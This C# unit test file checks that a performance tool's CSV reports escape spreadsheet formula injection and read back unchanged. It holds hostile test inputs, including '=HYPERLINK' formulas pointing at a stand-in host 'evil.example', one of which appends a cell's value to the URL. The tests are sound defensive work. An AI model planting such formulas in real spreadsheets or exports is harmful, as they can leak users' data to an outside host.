using System.Globalization;
using System.Text;
using PerfTools.Shared.Analysis;
using PerfTools.Shared.Comparison;
using PerfTools.Shared.Http;
using PerfTools.Shared.Reports;
using PerfTools.Shared.Reports.Analyzer;
using PerfTools.Shared.Reports.Comparison;
using PerfTools.Shared.Reports.Detector;
using PerfTools.Shared.Reports.Simulation;

namespace PerfTools.Tests.Reports;

/// <summary>CSV formula injection (OWASP): a text cell a server or a user controls never starts with <c>= + - @</c>,
/// tab or CR in the file, every reader gives back exactly what was written, and numbers, negative ones included, are
/// written as numbers.</summary>
public sealed class CsvInjectionTests
{
    /// <summary>What a server's route, message or label could hold to make a spreadsheet run a formula, plus texts that
    /// start with the escape mark itself.</summary>
    private static readonly string[] Hostile = ["=1+1", "+1", "-cmd", "@SUM(A1)", "\tx", "\rx", "'=x", "'", "''", "-", "a=b"];

    private static readonly string[] Cultures = ["en-US", "de-DE"];

    [TestCase("=1+1", "'=1+1")]
    [TestCase("+1", "'+1")]
    [TestCase("-cmd", "'-cmd")]
    [TestCase("@SUM(A1)", "'@SUM(A1)")]
    [TestCase("\tx", "'\tx")]
    [TestCase("\rx", "'\rx")]
    [TestCase("'=x", "''=x")]
    [TestCase("'plain", "''plain")]
    [TestCase("GET /boards", "GET /boards")]
    [TestCase("a=b", "a=b")]
    [TestCase(" =x", " =x")]
    [TestCase("", "")]
    public void EscapeText_Text_MarkedOnlyWhenItStartsWithAFormulaCharacterOrTheMark(string text, string expected) =>
        Assert.That(CsvFiles.EscapeText(text), Is.EqualTo(expected));

    [Test]
    public void UnescapeText_WhatEscapeTextWrote_GivesTheTextBack()
    {
        Assert.Multiple(() =>
        {
            foreach (string text in Hostile.Concat(["", "x", "''=x", "'''"]))
            {
                Assert.That(CsvFiles.UnescapeText(CsvFiles.EscapeText(text)), Is.EqualTo(text), Show(text));
            }
        });
    }

    [TestCaseSource(nameof(Cultures))]
    public void SummaryCsv_HostileLabels_RoundTripEscaped(string culture)
    {
        using var scope = new CultureScope(culture);
        var stats = Hostile.Select(label => ReportSamples.Stats[1] with { Label = label }).ToList();

        byte[] csv = Written(s => SummaryCsv.Write(s, stats));
        var read = SummaryCsv.Read(new MemoryStream(csv));

        Assert.Multiple(() =>
        {
            Assert.That(read.Select(s => s.Label), Is.EqualTo(Hostile));
            Assert.That(read.Select(s => s.ErrorsByKind["Http5xx"]), Has.All.EqualTo(1));
            AssertSafeForSpreadsheets(csv);
        });
    }

    [TestCaseSource(nameof(Cultures))]
    public void RequestsCsv_HostileTextCells_RoundTripEscapedNegativeNumbersKept(string culture)
    {
        using var scope = new CultureScope(culture);
        RequestResult sample = ReportSamples.Results[4]; // ttfb -1 µs: written -0.001
        var results = Hostile.Select(text => sample with
        {
            Label = text, Method = text, Url = "=HYPERLINK(\"http://evil.example\")", TraceId = text, ErrorMessage = text,
            LagMicros = -1_500,
        }).ToList();

        byte[] csv = Written(s => RequestsCsv.Write(s, results));
        var read = RequestsCsv.Read(new MemoryStream(csv));

        Assert.Multiple(() =>
        {
            Assert.That(read, Is.EqualTo(results));
            Assert.That(Cells(csv)[1], Does.Contain("-1.500").And.Contain("-0.001"), "negative numbers are numbers, not escaped");
            AssertSafeForSpreadsheets(csv);
        });
    }

    [TestCaseSource(nameof(Cultures))]
    public void ComparisonCsv_HostileLabels_RoundTripEscapedNegativeChangeKept(string culture)
    {
        using var scope = new CultureScope(culture);
        double[] before = [10, 11, 12, 13, 14, 15];
        double[] after = [5, 6, 7, 8, 9, 10];
        var rows = Hostile.Select(label => LatencyComparer.Compare(label, before, after)).ToList();

        byte[] csv = Written(s => ComparisonCsv.Write(s, rows));
        var read = ComparisonCsv.Read(new MemoryStream(csv));

        Assert.Multiple(() =>
        {
            Assert.That(read.Select(r => r.Label), Is.EqualTo(Hostile));
            Assert.That(read.Select(r => r.P50ChangePct), Is.EqualTo(rows.Select(r => r.P50ChangePct)).Within(0.001));
            Assert.That(read.Select(r => r.Verdict), Is.EqualTo(rows.Select(r => r.Verdict)));
            Assert.That(Cells(csv)[1][5], Does.StartWith("-"), "p50_change_pct of a faster run: a negative number, not escaped");
            AssertSafeForSpreadsheets(csv);
        });
    }

    [TestCaseSource(nameof(Cultures))]
    public void FindingChangesCsv_HostileRuleTargetUnit_RoundTripEscapedNegativeChangeKept(string culture)
    {
        using var scope = new CultureScope(culture);
        var changes = Hostile.Select(text => new FindingChange(
            FindingStatus.Remaining, text, text, text, Severity.Critical, Severity.Warning, -1.5, -3.25, 2, 1)).ToList();

        byte[] csv = Written(s => FindingChangesCsv.Write(s, changes));
        var read = FindingChangesCsv.Read(new MemoryStream(csv));

        Assert.Multiple(() =>
        {
            Assert.That(read, Is.EqualTo(changes));
            Assert.That(Cells(csv)[1][6..10], Is.EqualTo(new[] { "-1.5", "-3.25", "-1.75", "-116.666667" }));
            AssertSafeForSpreadsheets(csv);
        });
    }

    [TestCaseSource(nameof(Cultures))]
    public void FindingsCsv_HostileTextCells_RoundTripEscapedNegativeValueKept(string culture)
    {
        using var scope = new CultureScope(culture);
        var findings = Hostile.Select(text => new Finding(text, Severity.Info, text, -1.5, text, -2, text, text)).ToList();

        byte[] csv = Written(s => FindingsCsv.Write(s, findings));
        var read = FindingsCsv.Read(new MemoryStream(csv));

        Assert.Multiple(() =>
        {
            Assert.That(read, Is.EqualTo(findings));
            Assert.That(Cells(csv)[1][3], Is.EqualTo("-1.5"));
            Assert.That(Cells(csv)[1][5], Is.EqualTo("-2"));
            AssertSafeForSpreadsheets(csv);
        });
    }

    [TestCaseSource(nameof(Cultures))]
    public void SimulationCsv_EveryCell_ANumber(string culture)
    {
        using var scope = new CultureScope(culture);

        byte[] csv = Written(s => SimulationCsv.Write(s, Simulation.SimulationReportsTests.Sample().Seconds));

        Assert.That(Cells(csv).Skip(1).SelectMany(row => row), Has.All.Matches<string>(IsNumber));
    }

    /// <summary>Findings as the detector's rules word them, one with a target a server sent to make a spreadsheet run a
    /// formula: the file is byte for byte the golden one, in any culture.</summary>
    [TestCaseSource(nameof(Cultures))]
    public void FindingsCsv_FixedFindingsOneHostileTarget_MatchesGolden(string culture)
    {
        using var scope = new CultureScope(culture);
        Finding[] findings =
        [
            new("slow_endpoint", Severity.Critical, "GET /boards/{id}/posts", 1047.123456, "ms", 500,
                "histogram_quantile(0.95, sum by (le, route) (rate(http_request_duration_seconds_bucket[5m])))",
                "Look at GET /boards/{id}/posts first: its p95 is twice the threshold."),
            new("error_rate", Severity.Warning, "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", 0.125, "ratio", 0.05,
                "sum(rate(http_requests_total{code=~\"5..\"}[5m]))", "-- check the server's log"),
            new("memory_growth", Severity.Info, "forum-api", -1.5, "MB/min", null, "deriv(process_working_set_bytes[5m])", "@ nothing to do"),
        ];

        byte[] csv = Written(s => FindingsCsv.Write(s, findings));

        GoldenFile.AssertMatches("findings.csv", csv);
        Assert.That(FindingsCsv.Read(new MemoryStream(csv)), Is.EqualTo(findings));
    }

    /// <summary>Golden writers: files written before the escaping existed hold no text starting with a formula
    /// character, so they still read, and write, to the same bytes.</summary>
    [TestCase("performance_summary.csv")]
    [TestCase("performance_requests.csv")]
    [TestCase("comparison.csv")]
    [TestCase("bottleneck_comparison.csv")]
    public void GoldenCsv_AsASpreadsheetSeesIt_NoCellRunsAsAFormula(string name) =>
        AssertSafeForSpreadsheets(File.ReadAllBytes(Path.Combine(AppContext.BaseDirectory, "testdata", "golden", name)));

    /// <summary>What a spreadsheet would do on opening the file: a cell that is not a number and starts with a formula
    /// character would run.</summary>
    internal static void AssertSafeForSpreadsheets(byte[] csv)
    {
        foreach (string[] row in Cells(csv))
        {
            foreach (string cell in row)
            {
                Assert.That(IsNumber(cell) || cell.Length == 0 || !"=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), Is.True,
                    $"cell {Show(cell)} would run as a formula");
            }
        }
    }

    private static bool IsNumber(string cell) => double.TryParse(cell, NumberStyles.Float, CultureInfo.InvariantCulture, out _);

    private static byte[] Written(Action<Stream> write)
    {
        using var stream = new MemoryStream();
        write(stream);
        return stream.ToArray();
    }

    /// <summary>The cells of an RFC 4180 file, parsed here rather than by CsvHelper, as a spreadsheet would.</summary>
    private static List<string[]> Cells(byte[] csv)
    {
        string text = Encoding.UTF8.GetString(csv);
        var rows = new List<string[]>();
        var row = new List<string>();
        var cell = new StringBuilder();
        bool quoted = false;
        for (int i = 0; i < text.Length; i++)
        {
            char c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                row.Add(cell.ToString());
                cell.Clear();
            }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
            {
                row.Add(cell.ToString());
                cell.Clear();
                rows.Add([.. row]);
                row.Clear();
                i++;
            }
            else
            {
                cell.Append(c);
            }
        }

        Assert.That(row.Count == 0 && cell.Length == 0 && !quoted, Is.True, "the file ends with CRLF outside quotes");
        return rows;
    }

    private static string Show(string text) => text.Replace("\t", "\\t", StringComparison.Ordinal).Replace("\r", "\\r", StringComparison.Ordinal);
}
